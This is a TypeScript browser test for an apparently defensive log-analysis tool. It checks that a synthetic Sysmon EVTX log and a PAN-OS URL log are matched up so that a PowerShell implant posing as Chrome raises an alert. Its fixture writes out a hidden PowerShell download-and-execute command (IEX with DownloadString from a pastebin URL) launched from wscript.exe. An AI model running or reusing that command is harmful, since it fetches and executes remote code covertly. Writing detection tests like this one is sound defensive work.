// Issue 21's browser test: an endpoint log (Sysmon as EVTX, written by
// src/core/evtx/write.ts) and a PAN-OS URL log dropped together through the
// file input. The implant's request carries a Chrome User-Agent, so the URL
// log alone takes it for a browser and raises nothing; stitched to its Sysmon
// connection it is powershell.exe, which alerts, and the page says that the
// User-Agent claimed a browser. The evidence record shows the process start's
// command line and parent, the host view lists the process, the summary
// counts the stitching, and all of it is the same after a reload (the tab
// stitches again from the stored history). Nothing leaves the page's origin.
//
// It needs the EVTX reader (evtx branch), the stitching (stitch branch) and
// this page (ui branch) together: before they are merged it cannot load
// (src/core/evtx/write.ts) or finds no alert. tests/browser/process-view.test.ts
// proves the page's part on its own.
import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { Locator, Page } from 'playwright-core';
import { writeEvtx, type WindowsEventToWrite } from '../../src/core/evtx/write';
import { CHROME_120, POWERSHELL } from '../helpers/stitched.ts';
import {
  assertNoUncaughtErrors,
  assertOnlyOwnOrigin,
  evidenceRecordValues,
  ingest,
  launchApp,
  removeDirs,
  showOverview,
  storedHistoryOpened,
  tempDir,
  type App,
} from './harness.ts';
import { urlLine } from './panos.ts';

const HOST = '10.20.0.77';
const COMPUTER = 'WS-ANN.corp.example';
const GUID = '{5770385f-c22a-5e0e-4a00-000000002300}';
const PARENT = 'C:\\Windows\\System32\\wscript.exe';
const COMMAND_LINE = `"${POWERSHELL}" -NoProfile -WindowStyle Hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/Xk2c9A')"`;
const SENTENCE = "Sent a browser's User-Agent (Chrome 120): the program is powershell.exe";

const SYSMON = { provider: 'Microsoft-Windows-Sysmon', channel: 'Microsoft-Windows-Sysmon/Operational', computer: COMPUTER };

/** The implant's process start, 32 s before its request, and its connection to pastebin.com, 0.13 s before the firewall logged it. */
const ENDPOINT: WindowsEventToWrite[] = [
  {
    ...SYSMON,
    eventId: 1,
    time: Date.UTC(2026, 8, 20, 10, 14, 58, 123),
    data: [
      ['RuleName', '-'],
      ['UtcTime', '2026-09-20 10:14:58.123'],
      ['ProcessGuid', GUID],
      ['ProcessId', '6132'],
      ['Image', POWERSHELL],
      ['CommandLine', COMMAND_LINE],
      ['CurrentDirectory', 'C:\\Users\\ann\\'],
      ['User', 'CORP\\ann'],
      ['IntegrityLevel', 'Medium'],
      ['ParentProcessGuid', '{5770385f-c229-5e0e-4900-000000002300}'],
      ['ParentProcessId', '5980'],
      ['ParentImage', PARENT],
      ['ParentCommandLine', `${PARENT} //B C:\\Users\\ann\\AppData\\Local\\Temp\\invoice.js`],
    ],
  },
  {
    ...SYSMON,
    eventId: 3,
    time: Date.UTC(2026, 8, 20, 10, 15, 29, 870),
    data: [
      ['RuleName', '-'],
      ['UtcTime', '2026-09-20 10:15:29.870'],
      ['ProcessGuid', GUID],
      ['ProcessId', '6132'],
      ['Image', POWERSHELL],
      ['User', 'CORP\\ann'],
      ['Protocol', 'tcp'],
      ['Initiated', 'true'],
      ['SourceIsIpv6', 'false'],
      ['SourceIp', HOST],
      ['SourceHostname', COMPUTER],
      ['SourcePort', '49812'],
      ['SourcePortName', '-'],
      ['DestinationIsIpv6', 'false'],
      ['DestinationIp', '104.20.68.143'],
      // A reverse lookup: shown, never the site.
      ['DestinationHostname', 'a104-20-68-143.deploy.static.akamaitechnologies.com'],
      ['DestinationPort', '443'],
      ['DestinationPortName', 'https'],
    ],
  },
];

/**
 * The firewall's view: a browser event on 2026-09-01 (the data start, so the
 * baseline is active on the 20th), the implant's request from HOST with a
 * Chrome User-Agent (pre-NAT ports as the endpoint saw them, NAT ones beside),
 * and two curl requests that cannot be stitched: one from a host with no
 * endpoint data, one without ports.
 */
const FIREWALL = [
  urlLine({ time: '2026/09/01 08:00:00', src: '10.0.0.1', url: 'www.example.com/', userAgent: CHROME_120 }),
  urlLine({
    time: '2026/09/20 10:15:30',
    src: HOST,
    user: 'corp\\ann',
    dst: '104.20.68.143',
    srcPort: 49812,
    dstPort: 443,
    natSrc: '198.51.100.7',
    natSrcPort: 31555,
    url: 'pastebin.com/raw/Xk2c9A',
    userAgent: CHROME_120,
    contentType: 'text/plain',
    session: 4711,
  }),
  urlLine({
    time: '2026/09/20 11:00:00',
    src: '10.20.0.5',
    dst: '93.184.216.34',
    srcPort: 50100,
    dstPort: 443,
    url: 'example.org/',
    userAgent: 'curl/8.4.0',
    contentType: 'text/html',
    session: 4712,
  }),
  urlLine({ time: '2026/09/20 11:05:00', src: '10.20.0.6', url: 'example.net/', userAgent: 'curl/8.4.0', session: 4713 }),
].join('\n');

let app: App;
let dir = '';
let files: string[] = [];

function implantRow(page: Page): Locator {
  return page.locator('[data-testid="alert-row"]').filter({ has: page.getByTestId('row-client').getByText('powershell.exe') });
}

before(async () => {
  dir = await tempDir();
  const evtx = join(dir, 'sysmon-ws-ann.evtx');
  const panos = join(dir, 'url-2026-09-20.log');
  await writeFile(evtx, writeEvtx(ENDPOINT));
  await writeFile(panos, FIREWALL + '\n');
  files = [panos, evtx];
  app = await launchApp();
  await app.page.setViewportSize({ width: 1440, height: 900 });
  await storedHistoryOpened(app.page);
  await ingest(app.page, files);
});

after(async () => {
  await app?.close();
  await removeDirs(dir);
});

/** The alert, its finding, its process and its evidence record, as the page shows them. */
async function checkAlert(page: Page): Promise<void> {
  const row = implantRow(page);
  await row.waitFor();
  assert.equal(await row.getByTestId('claim-marker').getAttribute('title'), SENTENCE);
  await row.click();
  const detail = page.getByTestId('alert-detail');
  assert.match((await detail.getByTestId('ua-claims-browser').textContent()) ?? '', /the program is powershell\.exe/);
  assert.equal(
    (await detail.getByTestId('detail-process').textContent())?.replace(/\s+/g, ' ').trim(),
    `powershell.exe ${POWERSHELL}`,
  );
  await detail.getByTestId('evidence-source').first().click();
  await detail.getByTestId('evidence-record').waitFor();
  const values = new Map((await evidenceRecordValues(page)).map((v) => [v.key, v.value]));
  assert.deepEqual(
    ['Process', 'Computer', 'PID', 'Process user', 'Command line', 'Parent image', 'User agent'].map((k) => values.get(k)),
    ['powershell.exe', COMPUTER, '6132', 'CORP\\ann', COMMAND_LINE, PARENT, CHROME_120],
  );
  assert.equal(values.get('Host'), HOST, "the firewall's host, so the baselines do not split");
}

test('dropped together, the EVTX and the PAN-OS log give an alert that names powershell.exe and says its User-Agent claimed a browser', async () => {
  const page = app.page;
  // The curl events alert as they did before; the implant is the one alert only stitching finds.
  await checkAlert(page);
  const detail = page.getByTestId('alert-detail');
  await detail.getByTestId('host-activity-open').click();
  const processes = detail.getByTestId('host-processes');
  await processes.waitFor();
  const rows = await processes
    .locator('tbody tr')
    .evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent?.trim() ?? '')));
  assert.equal(rows.length, 1);
  assert.equal(rows[0][0], `powershell.exe${POWERSHELL}`);
  assert.equal(rows[0][1], COMPUTER);
  assert.equal(rows[0][2], '1');
  assert.equal(rows[0][5], 'pastebin.com');
  await page.keyboard.press('Escape');
  await detail.waitFor({ state: 'detached' });
});

test('the summary counts the stitching: one event stitched, and why the others were not', async () => {
  const page = app.page;
  await showOverview(page);
  const summary = page.getByTestId('stitch-summary');
  assert.match(
    (await summary.getByTestId('stitched').textContent()) ?? '',
    /1 URL event stitched to the process that made it, 1 of them with a browser's User-Agent/,
  );
  assert.match((await summary.getByTestId('not-stitched-no-endpoint-data').textContent()) ?? '', /^1: no endpoint data/);
  assert.match((await summary.getByTestId('not-stitched-no-ports').textContent()) ?? '', /^1: no ports in the source/);
  assert.match((await summary.getByTestId('connections-unstitched').textContent()) ?? '', /^0 endpoint connections/);
});

test('after a reload the stored history gives the same alert, process and evidence', async () => {
  const page = app.page;
  await page.reload();
  await storedHistoryOpened(page);
  await checkAlert(page);
  await page.keyboard.press('Escape');
});

test('the PAN-OS log dropped later, on its own, still gives the alert: the history holds the EVTX, so its browser rows are kept for stitching', async () => {
  const later = await launchApp();
  try {
    await storedHistoryOpened(later.page);
    await ingest(later.page, [files[1]]);
    await ingest(later.page, [files[0]]);
    await checkAlert(later.page);
    assertNoUncaughtErrors(later);
  } finally {
    await later.close();
  }
});

test('the page threw no uncaught error', () => {
  assertNoUncaughtErrors(app);
});

test('no request left the page origin', () => {
  assertOnlyOwnOrigin(app);
});
